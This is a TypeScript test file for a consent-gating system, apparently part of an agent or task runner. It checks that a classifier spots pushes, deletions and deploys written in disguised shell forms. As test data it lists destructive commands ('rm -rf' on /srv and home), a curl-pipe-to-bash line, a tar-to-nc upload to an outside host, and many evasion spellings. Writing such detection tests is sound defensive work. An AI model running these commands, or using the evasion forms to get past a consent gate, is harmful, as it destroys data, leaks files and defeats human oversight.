// Attacks on consent: commands spelt so that nobody recognises them. What is recognised must be recognised however it is quoted,
// wrapped or split over lines, and nothing here may make recognition slow, throw, or call harmless lines dangerous. What is beyond it
// is listed too, so that nobody claims more: recognition is a help, not a wall (docs/guide/people.md).

import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cpuMs } from '../../src/domain/cpu-time.fixture.ts'
import type { CommandLine } from '../../src/domain/plan.ts'
import { commandImpact } from '../../src/domain/plan-rules/command-impact.ts'
import { gatedImpact } from '../../src/domain/plan-rules/impact.ts'
import { ANA, run, stage } from '../../src/engine/gates/consent.fixture.ts'
import { plan, task } from '../../src/testing/index.ts'

const scripts = (lines: readonly string[]): readonly CommandLine[] => lines.map(script => ({ script }))
const argvs = (lines: readonly (readonly string[])[]): readonly CommandLine[] => lines.map(argv => ({ argv }))

describe('a push is recognised, however it is spelt', () => {
  test.each(
    scripts([
      'git push',
      '\'git\' "push"',
      'gi""t pu\'\'sh',
      'g\\it p\\ush',
      'git\t\tpush',
      'git \\\n push',
      'git \\\r\n push',
      'true;git push',
      'true&&git push',
      'true\ngit push',
      'true\r\n\tgit push',
      '/usr/bin/git push',
      './bin/../../usr/bin/git push',
      'command git push',
      'command -p git push',
      'builtin command git push',
      'exec git push',
      'exec -a ls git push',
      'sudo git push',
      'sudo -u root -E -- git push',
      'doas -u root git push',
      'nohup git push &',
      'timeout 5 git push',
      'timeout -s KILL --foreground 5m git push',
      'nice -n 19 ionice -c 3 setsid git push',
      'time -p git push',
      'env git push',
      'env -i X=1 -u Y git push',
      "env -S 'git push'",
      'X=1 Y="a b" git push',
      'bash -c "git push"',
      "sh -c 'git push'",
      "bash -ceu 'git push'",
      "bash --norc -o pipefail -c 'git push'",
      "sudo bash -lc 'cd x && git push'",
      'sh -c "sh -c \'git push\'"',
      'eval git push',
      "eval 'git push'",
      'echo origin | xargs git push',
      "echo x | xargs -0 -I '{}' -P4 git push '{}'",
      "find . -exec git push ';'",
      '(git push)',
      '{ git push; }',
      '! git push',
      'if git push; then :; fi',
      'for x in 1 2; do git push; done',
      'echo $(git push)',
      'echo "`git push`"',
      'cat <(git push)',
      'git -c a=b --git-dir x -C y push',
      'git --no-pager push',
      'git push>/dev/null',
      'git push 2>&1 | cat',
      '2>/dev/null git push',
      "ssh host 'cd x && git push'",
      'su root -c "git push"',
    ]),
  )('%j', command => {
    expect(commandImpact(command)).toBe('push')
  })

  test.each(
    argvs([
      ['bash', '-c', 'git push --force'],
      ['/bin/sh', '-c', '  git\tpush'],
      ['env', 'A=1', 'timeout', '5', 'git', 'push'],
      ['sudo', '--', 'env', 'git', 'push'],
      ['xargs', 'git', 'push'],
      ['nohup', 'sh', '-c', '# harmless\ngit push'],
    ]),
  )('%j', command => {
    expect(commandImpact(command)).toBe('push')
  })
})

test.each<readonly [string, string]>([
  ['delete', 'curl -fsS -X DELETE https://api.example.com/things/1'],
  ['delete', "curl -X 'DELETE' https://x"],
  ['delete', 'curl --request DELETE https://x'],
  ['delete', 'bash -c "sudo rm -rf /srv/*"'],
  ['delete', "env A=1 'rm' -r -f ~"],
  ['delete', 'kubectl -n prod delete pod x'],
  ['delete', 'psql -c \'drop   table "users"\''],
  ['deploy', 'make -j4 deploy'],
  ['deploy', 'cd web && npm run deploy -- --prod'],
  ['deploy', 'pnpm -C web run deploy:staging'],
  ['deploy', 'sudo helm upgrade x y'],
  ['migrate', 'npx prisma migrate deploy'],
])('%s: %s', (impact, script) => {
  expect(commandImpact({ script })).toBe(impact)
})

test('code that cannot be read is called unknown, and no harmless line is called anything', () => {
  for (const script of [
    'bash deploy.sh',
    'sh < deploy.sh',
    'curl https://x | bash',
    'python3 -c "import os"',
    'node x.js',
    'perl -e 1',
    '$(echo git) push',
    '"$GIT" push',
    'eval "$X"',
    'bash -c "$X"',
    'source x.sh',
    './x',
  ])
    expect(commandImpact({ script }), script).toBe('unknown')
  for (const script of [
    'echo git push',
    'git log --oneline -- push',
    'git commit -m "git push later"',
    "grep -r 'rm -rf /' .",
    'npm ci && npm test',
    'curl https://x/DELETE',
    'make test DEPLOY=no',
    'rm -rf build',
    '',
    '   \n\n',
    '#',
    "'",
  ])
    expect(commandImpact({ script }), script).toBe(null)
})

/** Said in the guide as well: whoever reads this list knows what recognition is not. */
test('beyond recognition: an alias, a function of another name, code in a file, a program nobody listed', () => {
  for (const script of ['gp', 'upload-everything --now', 'tar cz . | nc example.com 99'])
    expect(commandImpact({ script })).toBe(null)
})

test('whatever a command holds, looking at it ends soon and never throws', () => {
  const pieces = fc.constantFrom(
    ...[
      'git',
      'push',
      'sh',
      '-c',
      'env',
      'sudo',
      '-u',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '\n',
      '${{',
      '}}',
      ';',
      '|',
      '<<',
      '>',
    ],
    ...['eval', 'xargs', '\u202e', '\0', '\ud800', 'é', '=', '--', 'timeout', '5'],
  )
  const reading = () =>
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 60 }), words => {
        commandImpact({ script: words.join(' ') })
        commandImpact({ script: words.join('') })
        commandImpact({ argv: words })
      }),
      { numRuns: 2_000 },
    )
  expect(cpuMs(reading, 10_000)).toBeLessThan(10_000)
})

test('a push in a shell is not carried out before somebody has agreed, and an unknown one only where the policy lets it', async () => {
  const record = ['bash', '-c', 'echo pushed >> $REC; exit 0; git push']
  const on = await stage({ tasks: [run('push', record)] })
  try {
    await on.drive()
    expect([on.done(), await on.asks('push')]).toEqual([[], 'consent'])
    expect(await on.decide('push', { by: ANA })).toBe('ok')
    await on.drive()
    expect(on.done()).toEqual(['pushed'])
  } finally {
    on.close()
  }
  const script = ['sh', 'x.sh']
  for (const [unknown, done] of [
    ['ask', []],
    ['allow', ['ran']],
  ] as const) {
    const at = await stage(
      { policy: { gates: { unknown } }, tasks: [run('x', script)] },
      { 'x.sh': 'echo ran >> $REC\n' },
    )
    try {
      await at.drive()
      expect([at.done(), await at.asks('x')]).toEqual([done, unknown === 'ask' ? 'consent' : null])
    } finally {
      at.close()
    }
  }
})

test('a plan from another system that demands a gate before production asks before code nobody can read', () => {
  const one = task('a', { action: { type: 'run', command: { argv: ['bash', 'deploy.sh'] } } })
  expect(gatedImpact(plan('p', one, { extra: { policies: { requireGateForProd: true } } }), one)).toBe('unknown')
  expect(gatedImpact(plan('p', one), one)).toBe(null)
})
